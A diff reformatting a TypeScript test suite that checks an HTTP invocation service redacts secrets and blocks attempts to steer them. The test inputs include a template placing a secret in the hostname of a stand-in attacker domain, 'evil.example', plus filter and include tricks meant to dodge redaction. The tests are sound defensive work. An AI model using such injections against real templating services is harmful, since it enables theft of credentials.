@@ -41,19 +41,42 @@ function echo(r: Recorded, res: http.ServerResponse) {
   const key = String(r.headers['x-key'] ?? '');
   const status = Number(/\/(\d{3})/.exec(r.url)?.[1] ?? 200);
   const body = JSON.stringify({
-    url: r.url, headers: r.headers, body: r.body,
-    lower: key.toLowerCase(), upper: key.toUpperCase(), b64: b64(key), basic: `Basic ${b64(`user:${key}`)}`,
-    url_encoded: encodeURIComponent(key), unicode_escaped: key.split('').map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
+    url: r.url,
+    headers: r.headers,
+    body: r.body,
+    lower: key.toLowerCase(),
+    upper: key.toUpperCase(),
+    b64: b64(key),
+    basic: `Basic ${b64(`user:${key}`)}`,
+    url_encoded: encodeURIComponent(key),
+    unicode_escaped: key
+      .split('')
+      .map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)
+      .join(''),
   });
-  res.writeHead(status, { 'content-type': 'application/json', 'x-request-id': key, location: `https://elsewhere.example/cb?k=${encodeURIComponent(key)}&raw=${key}` });
+  res.writeHead(status, {
+    'content-type': 'application/json',
+    'x-request-id': key,
+    location: `https://elsewhere.example/cb?k=${encodeURIComponent(key)}&raw=${key}`,
+  });
   res.end(body);
 }
 
 beforeAll(async () => {
   up = await startUpstream(echo);
-  h = await startHarness({ INVOKE_SECRET_ECHO: SECRET, INVOKE_SECRET_ECHO_HOSTS: '127.0.0.1', INVOKE_SECRET_OTHER: 'Other-Secret-77', LOG_LEVEL: 'debug' });
+  h = await startHarness({
+    INVOKE_SECRET_ECHO: SECRET,
+    INVOKE_SECRET_ECHO_HOSTS: '127.0.0.1',
+    INVOKE_SECRET_OTHER: 'Other-Secret-77',
+    LOG_LEVEL: 'debug',
+  });
   producers = createProducerApi(h.cfg);
-  api = await buildServer({ cfg: h.cfg, logger: (await import('pino')).pino({ level: 'silent' }), readiness: { checks: {} }, plugins: producers.plugins });
+  api = await buildServer({
+    cfg: h.cfg,
+    logger: (await import('pino')).pino({ level: 'silent' }),
+    readiness: { checks: {} },
+    plugins: producers.plugins,
+  });
 });
 afterAll(async () => {
   await api?.close();
@@ -69,9 +92,17 @@ function findLeaks(text: string): string[] {
 async function run(request: Record<string, unknown>) {
   const data = jobData({ request });
   const job = await h.queue.add('invoke', data, { attempts: 1 });
-  await waitFor(async () => ['failed', 'completed'].includes(await h.queue.getJobState(job.id!)) || undefined, `job ${job.id} to finish`);
+  await waitFor(
+    async () => ['failed', 'completed'].includes(await h.queue.getJobState(job.id!)) || undefined,
+    `job ${job.id} to finish`,
+  );
   const answer = await api.inject({ method: 'GET', url: `/v1/invocations/${job.id}` });
-  return { data, job: (await h.queue.getJob(job.id!))!, answer: answer.body, context: await h.context(data.runId) };
+  return {
+    data,
+    job: (await h.queue.getJob(job.id!))!,
+    answer: answer.body,
+    context: await h.context(data.runId),
+  };
 }
 
 const withSecret = (path: string) => ({
@@ -99,7 +130,11 @@ describe('an echoing partner gets no secret stored or shown', () => {
     expect(runs[3]!.context.loyalty.headers.location).toContain('[REDACTED]');
     expect(runs[0]!.context.loyalty.body.headers['x-key']).toBe('[REDACTED]');
 
-    const everything = [await dumpNamespace(h.redis, h.ns), h.logs.join('\n'), ...runs.map((r) => r.answer)].join('\n');
+    const everything = [
+      await dumpNamespace(h.redis, h.ns),
+      h.logs.join('\n'),
+      ...runs.map((r) => r.answer),
+    ].join('\n');
     expect(everything).toContain('[REDACTED]');
     expect(findLeaks(everything)).toEqual([]);
   });
@@ -107,11 +142,34 @@ describe('an echoing partner gets no secret stored or shown', () => {
 
 describe('a secret cannot be steered', () => {
   const cases: [string, Record<string, unknown>, RegExp][] = [
-    ['into the host', { url: 'http://x{{ secrets.ECHO }}.evil.example/' }, /^TEMPLATE_ERROR: request\.url: secrets\.ECHO may not be part of the host/],
-    ['into the host through a whole-URL output', { url: '{{ secrets.ECHO }}' }, /^TEMPLATE_ERROR: request\.url: /],
-    ['through upcase', { url: 'http://127.0.0.1:1/x', headers: { 'x-a': '{{ secrets.ECHO | upcase }}' } }, /^TEMPLATE_ERROR: request\.headers\.x-a: secrets\.ECHO was passed through a filter/],
-    ['through slice and downcase', { url: 'http://127.0.0.1:1/x', headers: { 'x-a': '{{ secrets.ECHO | slice: 2, 30 | downcase }}' } }, /^TEMPLATE_ERROR: request\.headers\.x-a: .*was passed through a filter/],
-    ['into an include', { url: 'http://127.0.0.1:1/x', headers: { 'x-a': '{% include secrets.ECHO | upcase %}' } }, /^TEMPLATE_ERROR: request\.headers\.x-a: the include tag is not supported/],
+    [
+      'into the host',
+      { url: 'http://x{{ secrets.ECHO }}.evil.example/' },
+      /^TEMPLATE_ERROR: request\.url: secrets\.ECHO may not be part of the host/,
+    ],
+    [
+      'into the host through a whole-URL output',
+      { url: '{{ secrets.ECHO }}' },
+      /^TEMPLATE_ERROR: request\.url: /,
+    ],
+    [
+      'through upcase',
+      { url: 'http://127.0.0.1:1/x', headers: { 'x-a': '{{ secrets.ECHO | upcase }}' } },
+      /^TEMPLATE_ERROR: request\.headers\.x-a: secrets\.ECHO was passed through a filter/,
+    ],
+    [
+      'through slice and downcase',
+      {
+        url: 'http://127.0.0.1:1/x',
+        headers: { 'x-a': '{{ secrets.ECHO | slice: 2, 30 | downcase }}' },
+      },
+      /^TEMPLATE_ERROR: request\.headers\.x-a: .*was passed through a filter/,
+    ],
+    [
+      'into an include',
+      { url: 'http://127.0.0.1:1/x', headers: { 'x-a': '{% include secrets.ECHO | upcase %}' } },
+      /^TEMPLATE_ERROR: request\.headers\.x-a: the include tag is not supported/,
+    ],
   ];
   for (const [name, request, message] of cases) {
     it(name, async () => {
@@ -120,7 +178,9 @@ describe('a secret cannot be steered', () => {
       expect(r.job.failedReason).toMatch(message);
       expect(r.job.attemptsMade).toBe(1);
       expect(up.requests.length).toBe(before);
-      const everything = [await dumpNamespace(h.redis, h.ns), h.logs.join('\n'), r.answer].join('\n');
+      const everything = [await dumpNamespace(h.redis, h.ns), h.logs.join('\n'), r.answer].join(
+        '\n',
+      );
       expect(findLeaks(everything)).toEqual([]);
     });
   }
@@ -128,6 +188,8 @@ describe('a secret cannot be steered', () => {
   it('another host may not receive a bound secret (URL_BLOCKED before filling in)', async () => {
     const r = await run({ url: 'http://localhost:1/{{ secrets.ECHO }}' });
     expect(r.job.failedReason).toMatch(/^URL_BLOCKED: /);
-    expect(findLeaks([await dumpNamespace(h.redis, h.ns), h.logs.join('\n'), r.answer].join('\n'))).toEqual([]);
+    expect(
+      findLeaks([await dumpNamespace(h.redis, h.ns), h.logs.join('\n'), r.answer].join('\n')),
+    ).toEqual([]);
   });
 });
